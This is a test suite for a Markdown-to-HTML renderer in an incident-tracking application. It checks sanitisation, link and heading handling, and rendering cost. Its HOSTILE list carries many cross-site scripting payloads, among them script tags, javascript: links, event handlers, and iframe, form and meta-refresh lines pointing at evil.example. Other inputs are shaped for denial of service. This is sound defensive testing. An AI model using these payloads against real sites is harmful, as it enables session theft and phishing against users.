import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidents.lib import markdown
from incidents.lib.markdown import (
    MAXIMUM_LENGTH,
    RENDERER_VERSION,
    TextTooLong,
    excerpt,
    plain_text,
    render,
)

# What costs too much costs minutes: it is cut off, and nothing is measured on a busy machine.
NOT_MINUTES = pytest.mark.timeout(60)


class Tags(HTMLParser):
    """Every tag with its attributes, as a browser would find them."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


SAFE_ATTRIBUTES = {
    "href", "title", "open", "src", "alt", "type", "checked", "disabled", "aria-label", "start",
    "align", "class", "id", "rel", "tabindex",
}  # fmt: skip


def assert_safe(html):
    for tag, attributes in Tags(html).found:
        assert tag in markdown._TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES
        if "id" in attributes:
            assert tag[0] == "h"
            assert re.fullmatch("h-[a-z0-9-]+", attributes["id"])
        if "href" in attributes:
            scheme = re.match(r"\s*([^/?#:]*):", attributes["href"])
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
        if "src" in attributes:
            assert attributes["src"].startswith("/attachments/")
            assert ".." not in attributes["src"]
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes
        classes = set((attributes.get("class") or "").split())
        assert classes <= markdown._CLASSES.get(tag, set())


def test_it_works():
    assert render("The **pool** was `full`.") == (
        "<p>The <strong>pool</strong> was <code>full</code>.</p>"
    )
    assert RENDERER_VERSION >= 1


def test_a_table_with_alignment_without_styles():
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td align="left">1</td>' in html
    assert '<td align="right">2</td>' in html


def test_strikethrough_and_line_ends():
    assert render("~~gone~~") == "<p><del>gone</del></p>"
    assert render("a  \r\nb\rc") == "<p>a<br>\nb\nc</p>"


def test_tasks_are_disabled_boxes_with_a_name():
    html = render("- [x] done\n- [ ] open")
    boxes = [attributes for tag, attributes in Tags(html).found if tag == "input"]
    box = {"type": "checkbox", "disabled": "", "aria-label": "Task"}
    assert boxes == [box | {"checked": ""}, box]


@pytest.mark.parametrize("kind", ["note", "tip", "important", "warning", "caution"])
def test_callouts(kind):
    html = render(f"> [!{kind.upper()}]\n> Mind the gap")
    assert f'<div class="admonition {kind}">' in html
    assert '<p class="admonition-title">' in html
    assert "<p>Mind the gap</p>" in html


def test_code_is_coloured_and_can_be_reached_by_keyboard():
    html = render("```python\nimport os\n```")
    assert '<div class="language-python highlight"><pre tabindex="0">' in html
    assert '<span class="kn">import</span>' in html


def test_an_address_becomes_a_link_that_tells_nobody_where_one_came_from():
    assert render("see https://example.org/a") == (
        '<p>see <a href="https://example.org/a" rel="noopener noreferrer nofollow">'
        "https://example.org/a</a></p>"
    )


def test_headings_go_one_level_down_and_have_their_own_ids():
    assert render("# Café & *bar*\n\n## a\n\n## a\n\n###### deep\n\n# 日本") == (
        '<h2 id="h-cafe-bar">Café &amp; <em>bar</em></h2>\n'
        '<h3 id="h-a">a</h3>\n<h3 id="h-a--2">a</h3>\n'
        '<h6 id="h-deep">deep</h6>\n<h2 id="h-section">日本</h2>'
    )


@pytest.mark.parametrize(
    ("reference", "address"),
    [
        ("INC-42", "/incidents/INC-42/"),
        ("LES-7", "/lessons/LES-7/"),
        ("ACT-9", "/actions/ACT-9/"),
    ],
)
def test_a_reference_becomes_a_link(reference, address):
    html = render(f"As in {reference}, and ({reference}).")
    assert (
        html.count(f'<a href="{address}" rel="noopener noreferrer nofollow">{reference}</a>') == 2
    )


@pytest.mark.parametrize(
    "source",
    [
        "`INC-42`",
        "```\nINC-42\n```",
        "<kbd>INC-42</kbd>",
        "INC-042",
        "INC-0",
        "XINC-42",
        "inc-42",
        "INC-42-1",
        "INC-42x",
        "/INC-42",
        "INC-1234567890123456789",
    ],
)
def test_what_is_no_reference_or_is_code_stays(source):
    assert "<a" not in render(source)


def test_a_reference_inside_a_link_is_that_link():
    html = render("[about INC-42](https://example.org/)")
    assert html.count("<a ") == 1
    assert render("<https://example.org/INC-42>").count("<a ") == 1


def test_pictures_are_only_our_own():
    assert 'src="/attachments/7/pool.png"' in render("![x](/attachments/7/pool.png)")
    assert 'src="/attachments/7/"' in render("![x](/attachments/7/)")


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/x.png",
        "//example.org/x.png",
        "/attachments/../admin/",
        "/attachments/%2e%2e/admin/",
        "/attachments//example.org",
        "/attachments/a?b",
        "attachments/x.png",
        "/\\example.org/attachments/",
        "data:image/png;base64,AAAA",
        "/attachments/.hidden",
    ],
)
def test_any_other_picture_loses_its_source(address):
    assert "src" not in render(f"![x]({address})")
    assert "src" not in render(f'<img src="{address}">')


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    "<img src=/attachments/a.png onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<img srcset='//evil.example/x 1x'>",
    "<IMG LOWSRC='javascript:alert(1)'>",
    '<p onclick="alert(1)">x</p>',
    "<p ONMOUSEOVER=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](< javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=x ping=//evil.example target=_blank>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    '[x](/a "t" onclick="alert(1)")',
    "[x](/a\"onmouseover=alert(1)//)",
    "![x\" onerror=\"alert(1)](/attachments/a.png)",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<td style='background:url(javascript:alert(1))'>x</td>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>Go</button></form>",
    "<input type=image src=//evil.example formaction=//evil.example>",
    "<input type=password name=password autofocus>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay></audio>",
    "<template><script>alert(1)</script></template>",
    "<dialog open>x</dialog>",
    "<p hx-get=/incidents/ hx-trigger=load>x</p>",
    "<p data-hx-post=/logout/ data-hx-trigger=load>x</p>",
    "<p data-x=1 x-data='alert(1)' @click='alert(1)' _='on load'>x</p>",
    "<a href=/x hx-boost=true hx-on:click='alert(1)'>x</a>",
    "<p id=location>x</p>",
    "<h2 id=h-mine name=cookie>x</h2>",
    "<img name=body src=/attachments/a.png>",
    "<p class='button modal highlight'>x</p>",
    "<div class='highlight overlay'>x</div>",
    "<span class='k btn'>x</span>",
    "<p contenteditable draggable dir=rtl role=alert slot=x is=y>x</p>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```{.python onclick=alert(1) #location}\nx\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "# x {: onclick=alert(1) #location .button }",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "> [!WARNING\" onclick=\"alert(1)]\n> x",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "# <img src=x onerror=alert(1)>",
    "INC-1<script>alert(1)</script>",
    "<b title='INC-1 <script>alert(1)</script> >'>x</b>",
    "<a title='\">&lt;script>alert(1)</script>' href=/x>INC-1</a>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0001\x03 <b>x</b>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "www.evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "a@b.example\"onclick=alert(1)",
]  # fmt: skip


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_is_left(source):
    assert_safe(render(source))
    assert_safe(render(f"- item\n\n  {source}\n\n> {source}"))


@pytest.mark.parametrize("tag", ["p", "div", "span", "a", "ul", "li", "td", "h1", "mark"])
def test_nothing_can_be_dressed_up_as_a_part_of_the_site(tag):
    for name in ("button", "modal", "overlay", "btn", "card", "message", "is-open"):
        assert name not in render(f'<{tag} class="{name}">x</{tag}>')


def test_control_characters_vanish():
    assert render("a\x00b\x02c\x1bd\x7f\ud800e") == "<p>abcde</p>"


def comparable(html):
    """Without the ids, which come after the cleaning, and with a box's attributes sorted."""
    html = re.sub(' id="h-[a-z0-9-]+"', "", html)
    return re.sub("<input ([^>]*)>", lambda box: str(sorted(box[1].split())), html)


def test_the_same_source_gives_the_same_html():
    assert len({render("- [x] done\n- [ ] open") for _ in range(50)}) == 1


ANYTHING = st.one_of(
    st.text(),
    st.lists(
        st.sampled_from(
            ["a", " ", "\n", "\n\n", "*", "**", "_", "`", "```\n", "~~~\n", "[", "](", ")", "![",
             "<", ">", "<b>", "</b>", "<div>", "<a href=x>", "</a>", "- ", "1. ", "> ", "# ", "|",
             "|-|\n", "    ", "\\", "&", "&lt;", "INC-1", "http://a.b", "[!NOTE]\n", "[ ] ", "\0",
             "\x02", "\x03", "===\n", "---\n", "<!--", "-->", '"', "'", "<pre>", "<h1>", "</h2>"]
        ),
        max_size=40,
    ).map("".join),
)  # fmt: skip


def test_cleaning_again_would_not_eat_the_first_line_of_code():
    html = render("<pre>\n\n\na</pre>")
    assert html == '<pre tabindex="0">a</pre>'
    assert markdown._CLEANER.clean(html) == html


@pytest.mark.parametrize("source", ["<select>a\n\nb</select>", "<select><option>> a\n> b</select>"])
def test_what_stood_around_a_dropped_tag_nests_in_one_way(source):
    html = render(source)
    assert "<p></p>" in html
    assert comparable(markdown._CLEANER.clean(html)) == comparable(html)


@settings(deadline=None)
@given(ANYTHING)
def test_any_text_gives_safe_html_that_cleaning_would_not_change(source):
    html = render(source)
    assert_safe(html)
    assert comparable(markdown._CLEANER.clean(html)) == comparable(html)


@settings(deadline=None)
@given(ANYTHING, st.integers(min_value=1, max_value=30))
def test_any_text_has_plain_words(source, length):
    assert "\n\n" not in plain_text(source)
    assert len(excerpt(source, length)) <= length


def test_a_text_that_is_too_long_is_refused_with_the_limit():
    render("a" * MAXIMUM_LENGTH)
    with pytest.raises(TextTooLong, match="200,001 characters; 200,000 are the most"):
        render("a" * (MAXIMUM_LENGTH + 1))


@NOT_MINUTES
@pytest.mark.parametrize(
    "piece",
    ["[", "![", "[a](", "[a][", "<a ", "<", "<!--", "<![", "<a \n\n", "<div>\n\n", "<http://a.b",
     "`", "`a", "*", "*a", "*a_", "**a ", "_", "~", "\\", "> ", ">", "- ", "1. ", "- a\n", "# a\n",
     "a\n===\n", "```\n", "a|b\n-|-\n", "a\n\n", "&", "(", "a@b.c ", "http://", "INC-1 ", "\n",
     "[[[[[[[[[\n\n", "<<<<<<<<<\n\n", "<script>\n\n", "&lt;", "a  \n", "[[[[[[[[[\n\na\n\n"],
)  # fmt: skip
def test_a_hostile_text_costs_seconds_at_most(piece):
    source = piece * (MAXIMUM_LENGTH // len(piece))
    html = render(source)
    assert_safe(html[:10_000])


@NOT_MINUTES
@pytest.mark.parametrize(
    "source",
    [
        "\n".join(">" * depth + " a" for depth in range(1, 600)),
        "\n".join("  " * depth + "- a" for depth in range(400)),
        "\n\n".join("    " * depth + "1. a" for depth in range(300)),
        "> - " * 500 + "a",
        "<div>" * 3_000,
    ],
    ids=["quotes", "lists", "loose lists", "lists in quotes", "tags"],
)
def test_deep_nesting_costs_seconds_at_most(source):
    assert "a" in render(source) + "a"


def test_too_many_brackets_are_shown_as_they_were_written():
    html = render("before\n\n" + "[" * 5_000 + "\n\n*after*")
    assert f"<code>{'[' * 5_000}\n</code>" in html
    assert "<p>before</p>" in html
    assert "<p><em>after</em></p>" in html


def test_brackets_in_code_cost_nothing_and_change_nothing():
    html = render("```json\n" + "[[]]\n\n" * 3_000 + "```\n\n*after*")
    assert html.count("<pre") == 1
    assert "<p><em>after</em></p>" in html


def test_plain_text_has_a_line_for_each_paragraph_and_item():
    source = "# Title\n\nThe *pool* was\n\n- `full` & [slow](http://a.b)\n- INC-4\n\n> quoted"
    assert plain_text(source) == "Title\nThe pool was\nfull & slow\nINC-4\nquoted"


@pytest.mark.parametrize(
    ("length", "expected"),
    [(100, "The pool was full"), (17, "The pool was full"), (16, "The pool was…"),
     (13, "The pool was…"), (12, "The pool…"), (3, "Th…")],
)  # fmt: skip
def test_an_excerpt_ends_between_words(length, expected):
    assert excerpt("The **pool**\n\nwas full", length) == expected
